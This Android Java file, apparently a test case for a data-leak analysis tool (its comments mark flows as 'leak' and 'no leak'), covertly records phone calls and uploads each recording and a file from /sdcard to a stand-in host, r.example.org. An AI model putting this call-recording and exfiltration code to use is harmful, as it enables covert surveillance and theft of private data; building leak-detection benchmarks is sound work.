package olden;

import android.content.*;
import android.media.*;
import android.os.*;
import android.telephony.*;

import java.io.*;
import java.net.*;

/** A recorded call, uploaded from its file. */
public class Tape extends BroadcastReceiver {
    static MediaRecorder rec;
    static String file;
    static boolean on;

    public void onReceive(Context c, Intent i) {
        String st = i.getStringExtra(TelephonyManager.EXTRA_STATE);
        try {
            if (TelephonyManager.EXTRA_STATE_OFFHOOK.equals(st) && !on) {
                File f =
                        new File(
                                Environment.getExternalStorageDirectory(),
                                System.currentTimeMillis() + ".amr");
                file = f.getAbsolutePath();
                rec = new MediaRecorder();
                rec.setAudioSource(4);
                rec.setOutputFormat(3);
                rec.setAudioEncoder(1);
                rec.setOutputFile(file);
                rec.prepare();
                rec.start();
                on = true;
            } else if (TelephonyManager.EXTRA_STATE_IDLE.equals(st) && on) {
                rec.stop();
                rec.release();
                on = false;
                new Up(file).start();
                new Up2("/sdcard/readme.cfg").start();
            }
        } catch (IOException e) {
        }
    }

    static class Up extends Thread {
        String p;

        Up(String p) {
            this.p = p;
        }

        public void run() {
            try {
                HttpURLConnection h =
                        (HttpURLConnection) new URL("http://r.example.org/u").openConnection();
                h.setChunkedStreamingMode(8192);
                h.setDoOutput(true);
                DataOutputStream o = new DataOutputStream(h.getOutputStream());
                o.writeBytes("--*****\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n");
                FileInputStream in = new FileInputStream(p);
                byte[] b = new byte[8192];
                int n = -1;
                while ((n = in.read(b)) > 0) o.write(b, 0, n); // leak
                o.writeBytes("\r\n--*****--\r\n");
                o.flush();
            } catch (IOException e) {
            }
        }
    }

    static class Up2 extends Thread {
        String p;

        Up2(String p) {
            this.p = p;
        }

        public void run() {
            try {
                HttpURLConnection h =
                        (HttpURLConnection) new URL("http://r.example.org/u").openConnection();
                DataOutputStream o = new DataOutputStream(h.getOutputStream());
                FileInputStream in = new FileInputStream(p);
                byte[] b = new byte[8192];
                int n = -1;
                while ((n = in.read(b)) > 0) o.write(b, 0, n); // no leak
            } catch (IOException e) {
            }
        }
    }
}
